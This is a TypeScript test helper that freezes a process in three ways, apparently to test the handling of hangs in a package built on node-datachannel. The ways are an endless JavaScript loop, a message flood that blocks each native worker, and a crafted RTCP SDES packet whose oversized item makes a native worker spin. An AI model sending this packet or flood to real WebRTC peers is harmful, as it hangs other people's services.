import { availableParallelism } from 'node:os'
import native, { type DataChannel, type Track } from 'node-datachannel'
import { signal, within } from '../helpers/deadline.js'
import { withoutCandidates } from '../helpers/native-peer.js'

/** The native library has a worker for each core, and two at least. */
const NATIVE_WORKERS = Math.max(2, availableParallelism())

/** More messages than wait for JavaScript in the native library, 1,024. */
const FLOOD = 3000

/** An RTCP SDES packet with an item that is longer than the packet. */
const ENDLESS_SDES = Buffer.of(0x81, 202, 0, 3, 0, 0, 0, 5, 1, 255, 65, 65, 65, 65, 65, 65)

const CONFIGURATION = { iceServers: [], bindAddress: '127.0.0.1' }

/** Native objects that nobody holds are collected, and close. */
const held: unknown[] = []

/** How a process freezes. The native faults are done to the native library itself: the package's own peers keep them out. */
export const FAULTS = {
  'event-loop': () => { for (;;); },
  'native-workers': () => forEachWorker(blockWorker),
  'native-loop': () => forEachWorker(spinWorker)
}

async function forEachWorker (prepare: () => Promise<() => void>): Promise<void> {
  const attacks = []
  for (let number = 0; number < NATIVE_WORKERS; number++) attacks.push(await prepare())
  for (const attack of attacks) attack()
}

/** A channel without a message callback blocks a worker once its queue is full. */
async function blockWorker (): Promise<() => void> {
  const victim = new native.PeerConnection('victim', CONFIGURATION)
  const attacker = new native.PeerConnection('attacker', CONFIGURATION)
  const announced = signal<DataChannel>()
  victim.onDataChannel(announced.resolve)
  const channel = attacker.createDataChannel('flood')
  victim.setRemoteDescription(withoutCandidates(attacker.localDescription()!.sdp), 'offer')
  attacker.setRemoteDescription(victim.localDescription()!.sdp, 'answer')
  held.push(victim, attacker, channel, await within(announced.promise, 'a channel to flood'))
  return () => { for (let count = 0; count < FLOOD; count++) channel.sendMessage('x') }
}

/** With two tracks, and no other number, the packet has a worker go round in a circle. */
async function spinWorker (): Promise<() => void> {
  const victim = new native.PeerConnection('victim', { ...CONFIGURATION, disableAutoNegotiation: true })
  const attacker = new native.PeerConnection('attacker', CONFIGURATION)
  const audio = new native.Audio('0', 'SendRecv')
  audio.addOpusCodec(111)
  audio.addSSRC(5, 'name', 'stream', 'audio')
  const video = new native.Video('1', 'SendRecv')
  video.addVP8Codec(96)
  video.addSSRC(6, 'name', 'stream', 'video')
  const own = [victim.addTrack(audio), victim.addTrack(video)]
  const tracks: Track[] = []
  attacker.onTrack(track => tracks.push(track))
  victim.setLocalDescription('offer')
  attacker.setRemoteDescription(withoutCandidates(victim.localDescription()!.sdp), 'offer')
  const opened = signal()
  own[0]!.onOpen(opened.resolve)
  victim.setRemoteDescription(attacker.localDescription()!.sdp, 'answer')
  await within(opened.promise, 'a track to open')
  held.push(victim, attacker, own, tracks)
  return () => { tracks[0]!.sendMessageBinary(ENDLESS_SDES) }
}
